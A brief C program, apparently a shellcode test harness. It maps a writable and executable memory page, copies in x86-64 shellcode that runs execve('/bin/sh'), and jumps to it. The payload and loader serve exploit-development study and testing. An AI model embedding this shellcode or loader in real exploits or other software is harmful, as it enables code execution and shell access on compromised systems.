#include <string.h>
#include <sys/mman.h>

unsigned char sc[] = "\x48\x31\xc0\x48\x89\xc2\x48\x89\xc6\x48\x8d\x3d\x04\x00\x00\x00"
                     "\x04\x3b\x0f\x05\x2f\x62\x69\x6e\x2f\x73\x68\x00\xcc\x90\x90\x90";

int main(void)
{
    void *p = mmap(0, sizeof sc, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_ANON | MAP_PRIVATE, -1, 0);
    memcpy(p, sc, sizeof sc);
    ((void (*)())p)();
    return 0;
}
